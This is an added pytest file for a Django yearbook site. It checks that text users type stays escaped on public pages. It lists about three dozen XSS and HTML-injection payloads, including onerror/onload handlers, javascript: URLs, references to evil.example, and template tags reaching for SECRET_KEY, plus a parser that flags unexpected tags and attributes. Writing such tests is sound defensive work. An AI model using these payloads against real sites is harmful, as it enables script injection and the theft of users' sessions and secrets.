@@ -1,0 +1,135 @@
+"""What people typed stays text on every page, whatever it looks like."""
+
+from __future__ import annotations
+
+from html.parser import HTMLParser
+
+import pytest
+from django.test import Client
+
+from entries.models import Section, Volume, Yearbook
+from entries.models.texts import TableText
+from tests.cast import Cast
+from tests.shelf.books import Book, publish, stored_picture
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    '"><svg onload=alert(1)>',
+    "'><svg/onload=alert(1)>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<template><script>alert(1)</script></template>",
+    "<style>@import 'http://evil.example';</style>",
+    "<link rel=stylesheet href=//evil.example>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<form action=//evil.example><button>x</button></form>",
+    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
+    "<details open ontoggle=alert(1)>",
+    "<body onload=alert(1)>",
+    "--><script>alert(1)</script><!--",
+    "]]><script>alert(1)</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)",
+    "{{ request.user }}{% debug %}{# x #}",
+    "{% load static %}{{ settings.SECRET_KEY }}",
+    '" onmouseover="alert(1)" x="',
+    "' onfocus=alert(1) autofocus='",
+    "` onmouseover=alert(1) `",
+    "javascript:alert(1)",
+    "＜script＞alert(1)＜/script＞",
+    "<ſcript>alert(1)</ſcript>",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "\u202e<script>alert(1)</script>",
+    "\u2028<script>alert(1)</script>",
+    "〔图1〕<img src=x onerror=alert(1)>",
+    "【<script>alert(1)</script>】",
+]
+
+ALLOWED = {
+    "html": {"lang"},
+    "head": set(),
+    "meta": {"charset", "name", "content"},
+    "title": set(),
+    "link": {"rel", "href", "media", "type"},
+    "script": {"src", "defer"},
+    "body": {"id"},
+    "a": {"class", "href", "rel", "aria-current"},
+    "button": {"type", "data-size", "data-print", "aria-pressed", "hidden"},
+    "img": {"src", "width", "height", "alt", "loading"},
+    "time": {"datetime"},
+    "th": {"scope", "class"},
+    "h1": {"class"},
+    "main": {"id", "tabindex"},
+}
+FRAME = {"class", "id", "aria-label", "aria-hidden", "aria-current", "role", "tabindex", "hidden", "data-hits"} | {
+    "data-sizes"
+}
+PLAIN = {
+    "header", "footer", "nav", "div", "span", "p", "ol", "li", "b", "small", "dl", "dt", "dd", "section", "article",
+    "h2", "h3", "h4", "h5", "figure", "figcaption", "table", "thead", "tbody", "tr", "td",
+}  # fmt: skip
+
+
+class Elements(HTMLParser):
+    """Everything that is not an element and attribute of our own templates, and all text."""
+
+    def __init__(self, page: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.foreign: list[str] = []
+        self.text = ""
+        self.feed(page)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        allowed = ALLOWED.get(tag, FRAME if tag in PLAIN else None)
+        if allowed is None:
+            self.foreign.append(f"<{tag}>")
+            return
+        self.foreign += [f"<{tag} {name}>" for name, _ in attrs if name not in allowed]
+        for name, value in attrs:
+            if name in {"src", "href"} and not (value or "").startswith(("/", "#", "http://127.0.0.1:8000/")):
+                self.foreign.append(f"<{tag} {name}={value}>")
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+    def handle_comment(self, data: str) -> None:
+        self.foreign.append(f"<!--{data}-->")
+
+
+def poison(book: Book, cast: Cast, payload: str) -> None:
+    """Put the payload into everything that a person can type and the public can see."""
+    picture = stored_picture(caption=payload, alt=payload, credit=payload[:50])
+    table = TableText(title=payload, measure=payload, source=payload, cells=((payload, payload), (payload, payload)))
+    cast.drafter.full_name, cast.drafter.post = payload[:50], payload[:100]
+    cast.drafter.save()
+    publish(cast, book.first, payload, f"{payload}\n〔图1〕\n{payload}", pictures=(picture,), tables=(table,))
+    Section.objects.filter(pk=book.first.pk).update(title=payload[:100])
+    Volume.objects.update(title=payload[:120], source=payload[:100])
+    Yearbook.objects.update(
+        title=payload[:100], publisher=payload[:100], description=payload, keywords=payload, site_id_code=payload[:20]
+    )
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_a_payload_stays_text(book: Book, cast: Cast, stranger: Client, payload: str) -> None:
+    poison(book, cast, payload)
+    for path in ("/", "/synj/2025/", f"/synj/2025/sections/{book.first.pk}/", "/synj/2025/entries/6/"):
+        page = Elements(stranger.get(path).content.decode())
+        assert page.foreign == [], path
+        assert payload[:100] in page.text, path
+    text = Elements(stranger.get("/synj/2025/entries/6/").content.decode()).text
+    assert text.count(payload) >= 5
+
+
+def test_the_check_sees_foreign_elements() -> None:
+    page = "<p onclick=x>a<b style=y>b</b><script>c</script><iframe></iframe><a href='javascript:d'>e</a><!--f-->"
+    assert Elements(page).foreign == [
+        "<p onclick>", "<b style>", "<iframe>", "<a href=javascript:d>", "<!--f-->",
+    ]  # fmt: skip
